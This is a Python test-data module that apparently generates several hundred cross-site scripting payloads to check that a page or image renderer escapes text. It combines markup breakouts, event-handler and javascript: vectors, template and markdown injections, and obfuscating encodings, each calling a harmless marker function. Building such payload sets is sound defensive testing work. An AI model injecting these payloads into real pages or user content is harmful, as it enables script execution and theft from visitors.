"""Texts that run a script where a page or a picture shows them unescaped; U06, U07.

Each calls `window.__hit(number)`, number being its own position, so that a test can tell which got through.
They are combined: what breaks out of where a text may stand, times what then runs, times how it is spelled.
"""

from itertools import product

# What ends the place in which the text stands.
BREAKS = [
    "",
    '">',
    "'>",
    "</text>",
    "</title></svg>",
    "</desc>",
    "</script>",
    "</style>",
    "</textarea></pre>",
    "-->",
    "]]>",
    "<!--><",
    "\x00>",
    "`>",
]  # fmt: skip

# What runs, wherever elements are read.
VECTORS = [
    "<script>{call}</script>",
    "<script>{call}//",
    "<img src=x onerror={call}>",
    '<img src="x" onerror="{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x to=y>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    '<iframe src="javascript:parent.{call}"></iframe>',
    "<body onload={call}>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<object data='javascript:{call}'></object>",
    "<x onanimationstart={call} style='animation:a'></x><style>@keyframes a{{}}</style>",
    "<marquee onstart={call}>x</marquee>",
    "<base href='javascript:{call}//'>",
    "<link rel=stylesheet href=http://127.0.0.1:9/{number}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
]

# What runs where an attribute or a script is what the text stands in; and what some languages make of text.
PLACED = [
    '" onmouseover="{call}" x="',
    '" onload="{call}" x="',
    '" autofocus onfocus="{call}" tabindex="0',
    "' onload='{call}' x='",
    "x onload={call}",
    "javascript:{call}",
    "java\tscript:{call}",
    "\x01javascript:{call}",
    "data:text/html,<script>parent.{call}</script>",
    '";{call};//',
    "';{call};//",
    "`;{call};//",
    "${{{call}}}",
    "\\';{call};//",
    '\\";{call};//',
    "\u2028{call}\u2029",
    "*/{call}/*",
    "</script><script>{call}",
    "<!--<script>{call}",
    "}} </style><script>{call}</script>",
    "x;background:url(javascript:{call})",
    "@import 'http://127.0.0.1:9/{number}.css';",
    "expression({call})",
    "$$\\href{{javascript:{call}}}{{x}}$$",
    "$$\\htmlStyle{{x:expression({call})}}{{<img src=x onerror={call}>}}$$",
    "[x](javascript:{call})",
    "![x](x\"onerror=\"{call})",
    "**<img src=x onerror={call}>**",
    '"] click n0 href "javascript:{call}" x["',
    'a"]; x [URL="javascript:{call}"',
    "%%{{init: {{'securityLevel': 'loose'}}}}%% <img src=x onerror={call}>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<?xml-stylesheet href='javascript:{call}'?>",
    "<!DOCTYPE x [<!ENTITY e '<script>{call}</script>'>]>&e;",
    "<![CDATA[<script>{call}</script>]]>",
    "\x1b]8;;javascript:{call}\x07x\x1b]8;;\x07",
    "\ud83d<script>{call}</script>",
    "\u202e<script>{call}</script>",
    "\ufeff<script>{call}</script>",
]  # fmt: skip


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def _numbered(text: str) -> str:
    return "".join(f"&#{ord(one)};" for one in text)


def _upper(text: str) -> str:
    return text.replace("<s", "<S").replace("on", "oN").replace("javascript", "jAvAsCrIpT")


def _split(text: str) -> str:
    return text.replace("<", "<\x00", 1) if "<" in text else "\x00" + text


def _slashes(text: str) -> str:
    return text.replace(" on", "/on").replace(" src", "/src")


def _overlong(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _quoted(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


SPELLINGS = [_entities, _numbered, _upper, _split, _slashes, _overlong, _quoted, _escaped]


def payloads() -> list[str]:
    """At least 500 texts, no two alike; the same ones at each call."""
    forms = [before + vector for before, vector in product(BREAKS, VECTORS)]
    forms += PLACED
    found: list[str] = []
    for form in forms:
        found.append(_with_call(form, len(found)))
    for spell, form in product(SPELLINGS, [*VECTORS, *PLACED]):
        found.append(spell(_with_call(form, len(found))))
    return found


def _with_call(form: str, number: int) -> str:
    return form.format(call=f"window.__hit({number})", number=number)


PAYLOADS = payloads()
